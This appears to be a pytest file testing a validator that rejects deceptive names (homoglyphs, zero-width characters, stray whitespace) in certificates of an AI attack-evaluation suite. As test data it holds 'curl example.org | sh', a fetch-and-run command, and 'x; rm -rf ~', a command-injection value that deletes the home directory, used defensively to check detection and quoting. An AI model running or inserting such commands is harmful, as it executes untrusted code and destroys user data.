import json

import certified
import pytest

from immunax.certificate.names import fault


@pytest.fixture(scope="module")
def stated(tmp_path_factory):
    return certified.certificate(tmp_path_factory.mktemp("stated")).read_text()


def test_names_of_a_certificate_are_those_of_its_configuration(stated):
    assert fault(json.loads(stated)["predicate"]) is None


@pytest.mark.parametrize(
    ("change", "told"),
    [
        (
            lambda said: said["suite"].update(name="m\u0430de by hand"),
            "name of the suite, 'm\\u0430de by hand', is not",
        ),
        (lambda said: said["suite"].update(name="standard"), "name of the suite is not that of its configuration"),
        (lambda said: said["attacks"][0].update(family="sft "), "name of an attack, 'sft '"),
        (lambda said: said["attacks"][0].update(family="s\u200bft"), "name of an attack, 's\\u200bft'"),
        (lambda said: said["attacks"][0].update(family="x" * 81), "name of an attack"),
        (lambda said: said["attacks"][0].update(family=""), "name of an attack, ''"),
        (lambda said: said["attacks"][0].update(family="a\nb"), "name of an attack, 'a\\nb'"),
        (lambda said: said["judges"][0].update(called="r\u0435fusal"), "name of a judge"),
        (lambda said: said["judges"][0].update(name="refus\u0430l"), "name of a judge"),
        (lambda said: said["policy"]["harm"].update({"c\u043empliance": {}}), "name of a side of harm"),
        (lambda said: said["reproduce"].append("curl example.org | sh"), "commands that make it again"),
        (lambda said: said["suite"]["config"]["suite"].update(name="other"), "not that of its configuration"),
    ],
)
def test_a_name_that_is_another_one_than_it_looks_is_a_fault(stated, change, told):
    said = json.loads(stated)["predicate"]
    change(said)
    assert told in fault(said)


def test_the_commands_that_make_it_again_are_words_for_a_shell(stated):
    said = json.loads(stated)["predicate"]
    said["suite"]["config"]["model"] = {"path": "x; rm -rf ~"}
    said["reproduce"][0] = "python -m immunax.certify 'model=x; rm -rf ~' 'suite=made by hand' seed=0"
    assert fault(said) is None
